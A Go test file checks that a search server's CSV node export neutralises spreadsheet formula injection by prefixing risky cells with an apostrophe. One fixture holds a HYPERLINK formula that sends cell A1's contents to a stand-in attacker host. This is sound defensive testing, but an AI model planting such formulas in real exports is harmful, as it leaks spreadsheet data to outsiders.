package server_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shearch/shearch/devfleet"
	"github.com/shearch/shearch/devfleet/fakeshard"
	"github.com/shearch/shearch/internal/engine"
	"github.com/shearch/shearch/search"
	"github.com/shearch/shearch/server"
)

// A node sets its own attributes, so a CSV export must not hand a
// spreadsheet a formula: a cell that starts with = + - @, a tab or a CR
// comes back, read by Python's csv module, with a leading '; other cells
// come back as they were.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	notes := map[string]string{
		"n-eq":    `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"n-plus":  "+1+1",
		"n-minus": "-2+3",
		"n-at":    "@SUM(1,1)",
		"n-tab":   "\t=1+1",
		"n-cr":    "\r=1+1",
		"n-plain": "just a note, with a comma and \"quotes\"",
		"n-mid":   "a=1+1",
	}
	var nodes []devfleet.Object
	for name, note := range notes {
		nodes = append(nodes, devfleet.Object{"name": name, "chef_environment": "prod", "json_class": "Chef::Node", "chef_type": "node",
			"run_list": []any{}, "normal": map[string]any{"note": note}, "default": map[string]any{}, "override": map[string]any{},
			"automatic": map[string]any{"ohai_time": json.Number("1")}})
	}
	key, err := fakeshard.WriteKey(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	fs, err := fakeshard.FromFixture(&devfleet.Fixture{Nodes: nodes}, fakeshard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	fs.Start()
	t.Cleanup(fs.Close)
	e := search.MustNew(search.Config{DefaultStack: "prod"}, search.Deps{Topology: search.StaticShards{fs.Config("s0", "prod", key)}})
	srv := httptest.NewServer(server.New(engine.Over(e), nil))
	t.Cleanup(srv.Close)

	res, err := http.Get(srv.URL + "/v1/export/node?q=*:*&format=csv&attr=note")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	path := filepath.Join(t.TempDir(), "export.csv")
	out, _ := os.Create(path)
	io.Copy(out, res.Body)
	out.Close()
	if res.StatusCode != 200 {
		b, _ := os.ReadFile(path)
		t.Fatalf("export: %d %s", res.StatusCode, b)
	}
	py := exec.Command("python3", "-c", `
import csv, json, sys
with open(sys.argv[1], newline="") as f:
    rows = list(csv.reader(f))
print(json.dumps({r[0]: r[3] for r in rows[1:]} | {"header": ",".join(rows[0])}))
`, path)
	got, err := py.CombinedOutput()
	if err != nil {
		t.Fatalf("python3 csv: %v\n%s", err, got)
	}
	var cells map[string]string
	if err := json.Unmarshal(got, &cells); err != nil {
		t.Fatalf("python3 csv: %v\n%s", err, got)
	}
	if cells["header"] != "name,shard,source,note" {
		t.Errorf("header %q", cells["header"])
	}
	for name, note := range notes {
		want := note
		if strings.ContainsRune("=+-@\t\r", rune(note[0])) {
			want = "'" + note
		}
		if cells[name] != want {
			t.Errorf("node %s: the CSV cell reads back %q, want %q", name, cells[name], want)
		}
	}
	if len(cells) != len(notes)+1 {
		t.Errorf("read %d rows back, want %d", len(cells)-1, len(notes))
	}
}
